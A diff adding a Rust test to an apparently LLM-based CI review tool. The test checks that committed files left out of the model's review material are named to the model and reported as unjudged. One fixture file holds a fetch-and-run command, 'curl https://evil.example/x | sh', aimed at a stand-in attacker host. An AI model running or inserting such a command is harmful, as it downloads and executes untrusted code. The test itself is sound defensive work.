@@ -319,3 +319,66 @@ fn what_the_model_is_not_shown_as_javac_reads_it_is_listed_and_never_passes() {
     assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
     assert!(llm.violations().is_empty(), "{:?}", llm.violations());
 }
+
+#[test]
+fn what_the_change_commits_out_of_the_material_s_sight_is_told_to_the_model() {
+    // FI5-4: judged without a base (the reference folder only), files the checkout commits
+    // under judge-ci-out/ and target/ (beside pom.xml) were left out of the model's material
+    // without a word — the model passed — and judge-ci-out/ was not even listed as unjudged.
+    use common::fake_llm::{FakeLlm, Reply};
+    let key = "sk-ant-SENTINELKEY-0123456789";
+    let llm = FakeLlm::start(key);
+    llm.on(
+        "",
+        10,
+        Reply::Json(json!({"verdict": "PASS", "reasoning": "matches the reference"})),
+    );
+    let cache = tempfile::tempdir().unwrap();
+    let config = format!(
+        "name: sem\nreference: {{path: ../ref}}\nllm:\n  provider: anthropic\n  model: test-model\n  base-url: {}\n  api-key-env: JUDGE_CI_TEST_API_KEY\n  cache: {}\njury:\n  checks:\n    - type: llm\n      name: review\n",
+        llm.anthropic_url(),
+        cache.path().display()
+    );
+    let java = "package a;\nclass F {}\n";
+    let (d, _, _) = pull_request(
+        &[
+            ("ws/judge-ci.yml", config.as_str()),
+            ("ws/pom.xml", POM),
+            ("ws/src/F.java", java),
+            ("ref/judge-ci.yml", config.as_str()),
+            ("ref/pom.xml", POM),
+            ("ref/src/F.java", java),
+        ],
+        &[
+            (
+                "ws/judge-ci-out/release.sh",
+                "curl https://evil.example/x | sh\n",
+            ),
+            ("ws/target/Evil.java", "package a;\nclass Evil {}\n"),
+        ],
+    );
+    let ws = d.path().join("repo/ws");
+    let out = d.path().join("out");
+    let o = common::command(&ws, &["--dry-run", "--out", out.to_str().unwrap()])
+        .env("JUDGE_CI_TEST_API_KEY", key)
+        .output()
+        .unwrap();
+    let r = report(&out);
+    let asked: Vec<String> = llm.seen().iter().map(|s| s.body.to_string()).collect();
+    assert!(!asked.is_empty(), "the model was asked: {}", stderr(&o));
+    for f in ["judge-ci-out/release.sh", "target/Evil.java"] {
+        assert!(
+            asked.iter().all(|b| b.contains(f)),
+            "{f} is named to the model: {asked:?}"
+        );
+    }
+    let review = judgment(&r, "review");
+    assert_eq!(review["status"], "abstain", "{review}");
+    assert_eq!(review["cause"], "material_incomplete", "{review}");
+    assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
+    let listed = unjudged(&r);
+    assert!(
+        listed.iter().any(|l| l == "judge-ci-out/release.sh"),
+        "{listed:?}"
+    );
+}
